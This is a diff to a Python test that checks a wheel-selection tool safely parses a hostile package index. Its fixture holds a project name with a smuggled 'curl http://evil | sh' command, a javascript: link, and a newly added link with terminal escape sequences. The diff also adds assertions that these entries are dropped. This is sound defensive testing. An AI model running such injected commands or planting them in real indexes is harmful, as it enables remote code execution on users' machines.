@@ -197,6 +197,7 @@ def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
         '<a href="cu1-torch2.14-abi1-sm80/">cu1-torch2.14-abi1-sm80</a>'
         '<a href="x/">demo-ext; curl http://evil | sh</a>'
         f'<a href="javascript:alert(1)">{OLD}</a>'
+        f'<a href="x\x1b]0;owned\x07/">{ABI0}</a>'
         f'<a href="{NEW}/">{NEW}</a>'
     )
     (simple / NEW / "index.html").write_text(
@@ -206,5 +207,7 @@ def test_a_hostile_index_is_read_without_surprises(tmp_path: Path) -> None:
     assert result.choice.match == NEW
     assert result.projects == ("demo-ext",)
     assert all("curl" not in pip and "$(" not in pip for pip, _uv in result.commands)
-    # The javascript: link is dropped, so OLD is no candidate even for a host it would suit.
+    # The javascript: link and the one with control characters are dropped: no candidates even for a host
+    # they would suit.
     assert which(str(tmp_path), env=env(torch="2.10.0", cuda="12.8")).choice.match is None
+    assert which(str(tmp_path), env=env(cxx11_abi=False)).choice.match is None
